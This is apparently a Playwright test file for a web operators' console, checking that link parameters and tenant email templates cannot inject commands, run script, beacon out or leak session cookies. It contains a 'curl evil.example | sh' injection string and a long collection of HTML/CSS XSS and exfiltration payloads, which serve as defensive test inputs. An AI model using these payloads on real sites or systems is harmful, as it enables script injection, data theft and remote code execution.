// What a link, or a mail of a tenant's, may have these pages do to whoever opens it.
import { createServer, type Server as Other } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launch, open, settled, type Watched } from "./browser";
import { type Operator, operator } from "./operator";
import { Server } from "./server";

let server: Server;
let browser: Browser;
let owner: Operator;
let other: Other;
let at: string;
let watched: Watched;
let page: Page;
const asked: string[] = [];
const cookies: string[] = [];

beforeAll(async () => {
  server = await Server.start();
  browser = await launch();
  owner = await operator(server);
  other = createServer((request, response) => {
    asked.push(String(request.url));
    cookies.push(String(request.headers.cookie ?? ""));
    response.setHeader("Content-Type", "text/html");
    response.end(`<!doctype html><title>other</title>`);
  });
  await new Promise<void>((done) => other.listen(0, "127.0.0.1", done));
  at = `http://localhost:${(other.address() as AddressInfo).port}`;
  watched = await open(browser, { cookies: owner.cookies });
  page = watched.page;
});

afterAll(async () => {
  await browser?.close();
  other?.closeAllConnections();
  other?.close();
  await server?.stop();
});

const go = async (path: string) => {
  await page.goto(server.operatorsURL + path);
  await settled(page);
};
const commands = async () => {
  await page.getByRole("button", { name: "Command line" }).click();
  const lines = await page.locator('[aria-label="The same on the command line"] code').allTextContents();
  await page.keyboard.press("Escape");
  return lines;
};

const evil = "x; curl evil.example | sh #";
for (const path of [
  `/tenants/demo/messages?kind=${encodeURIComponent(evil)}`,
  `/tenants/demo/messages?state=${encodeURIComponent(evil)}`,
  `/tenants/demo/webhooks/${encodeURIComponent(evil)}`,
  `/tenants/demo/templates/${encodeURIComponent(evil)}`,
  `/tenants/demo/imports/${encodeURIComponent(evil)}`,
  `/tenants/demo/versions?from=${encodeURIComponent(evil)}`,
  `/tenants/demo/audit?action=${encodeURIComponent(evil)}`,
  `/tenants?state=${encodeURIComponent(evil)}&q=${encodeURIComponent(evil)}`,
  `/doctor?url=${encodeURIComponent(evil)}`,
]) {
  test(`no command that is copied from ${path.split("?")[0]} runs what the link says (${path.split("?")[1]?.split("=")[0] ?? "path"})`, async () => {
    await go(path);
    const bare = (await commands()).filter((line) => line.replaceAll(/'[^']*'/g, "").includes("curl evil.example"));
    expect(bare).toEqual([]);
  });
}

test("a mail that is shown loads nothing, runs nothing and leads nowhere", async () => {
  const html = `<html><head><style>@import url(${at}/import.css);
    @font-face{font-family:x;src:url(${at}/font)} body{font-family:x;background:url(${at}/bg)}
    :root{--u:url(${at}/var)} p{background-image:var(--u)} li{list-style:url(${at}/li)} p::before{content:url(${at}/content)}
    p{cursor:url(${at}/cursor),auto;border-image:url(${at}/border);mask:url(${at}/mask);filter:url(${at}/filter#a)}
    @media all{p{background:url(${at}/media)}} @supports(display:grid){p{background:image-set("${at}/set" 1x)}}
    p{ & b{background:url(${at}/nested)} } @layer l{p{background:\\75rl(${at}/escaped)}} @keyframes k{from{background:url(${at}/keyframe)}to{background:url(${at}/keyframe2)}} b{animation:k 1s infinite}
    @property --z{syntax:"*";inherits:false;initial-value:url(${at}/property)} i{background:var(--z)}
    @counter-style cs{system:cyclic;symbols:url(${at}/symbol)} ul{list-style:cs}
    </style><base href="${at}/"><meta http-equiv=refresh content="0;url=${at}/refresh"><link rel=prefetch href="${at}/prefetch"><link rel=stylesheet href="${at}/sheet"></head>
    <body style="background:url(${at}/bodystyle)" background="${at}/bodybackground" onload="parent.pwned=1">
    <a href="${at}/leads" target=_top ping="${at}/ping">leads away</a> <a href="javascript:parent.pwned=1">js</a>
    <p style="background:url(${at}/attr)">Hi <b>b</b><i>i</i></p><ul><li>x</li></ul><img src="${at}/img" srcset="${at}/srcset 1x" onerror="parent.pwned=1"><img src=x onerror="parent.pwned=1">
    <table background="${at}/table"><tr><td background="${at}/td">x</td></tr></table>
    <iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed"><video poster="${at}/poster" src="${at}/video"></video>
    <svg onload="parent.pwned=1"><image href="${at}/svg"/><script>parent.pwned=1</script></svg><math><maction xlink:href="javascript:parent.pwned=1">m</maction></math>
    <form action="${at}/form"><button>go</button><input type=image src="${at}/input"></form><script>parent.pwned=1</script>
    <noscript><p title="</noscript><img src=x onerror=parent.pwned=1>"></noscript>
    {{.url}}</body></html>`;
  await server.admin("PUT", "/tenants/demo/templates/password_reset_key", { html });
  await go("/tenants/demo/templates/password_reset_key");
  const frame = page.frameLocator('iframe[sandbox="allow-same-origin"]').first();
  await frame.getByText("leads away").waitFor({ timeout: 3000 });
  await frame.getByText("leads away").click({ force: true });
  await page.getByRole("button", { name: "Command line" }).click(); // the page is still itself
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(page.url()).toContain("/templates/password_reset_key");
});

test("a page of another port of this machine gets nothing of the session", async () => {
  await page.goto(`${at}/neighbour`);
  expect(cookies.at(-1)).not.toContain("vestibule_operator=");
});
